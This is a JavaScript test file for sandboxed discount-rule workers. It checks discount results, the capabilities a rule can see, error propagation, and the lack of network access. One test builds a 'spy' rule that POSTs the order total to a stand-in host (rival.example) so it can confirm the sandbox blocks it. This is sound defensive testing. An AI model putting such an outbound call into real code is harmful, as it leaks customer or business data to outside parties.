import assert from 'node:assert';
import { rule } from './rule.js';
import shopRule from '../dynamic/discount/index.js';

/** Code of a rule whose method has this body. */
const ruleThat = (body) => `
  import { WorkerEntrypoint } from 'cloudflare:workers';
  export default class extends WorkerEntrypoint {
    async discount(total) { ${body} }
  }`;

export const regularsGetATenth = {
  async test(controller, env, ctx) {
    assert.strictEqual(await rule(shopRule, 'Ada', env, ctx).discount(100), 10);
  },
};

export const strangersPayAll = {
  async test(controller, env, ctx) {
    assert.strictEqual(await rule(shopRule, 'Bob', env, ctx).discount(100), 0);
  },
};

export const aRuleHoldsOneCapability = {
  async test(controller, env, ctx) {
    const held = ruleThat('return Object.keys(this.env);');
    assert.deepStrictEqual(await rule(held, 'Ada', env, ctx).discount(100), ['CUSTOMER']);
  },
};

export const aRuleHasNoNetwork = {
  async test(controller, env, ctx) {
    const spy = ruleThat("await fetch('https://rival.example/', { method: 'POST', body: String(total) });");
    await assert.rejects(rule(spy, 'Ada', env, ctx).discount(100), /not permitted to access the internet/);
  },
};

export const aBrokenRuleFailsForItsCaller = {
  async test(controller, env, ctx) {
    const broken = ruleThat("throw new RangeError('no discount below ' + total);");
    await assert.rejects(rule(broken, 'Ada', env, ctx).discount(100), { name: 'RangeError', message: 'no discount below 100' });
  },
};
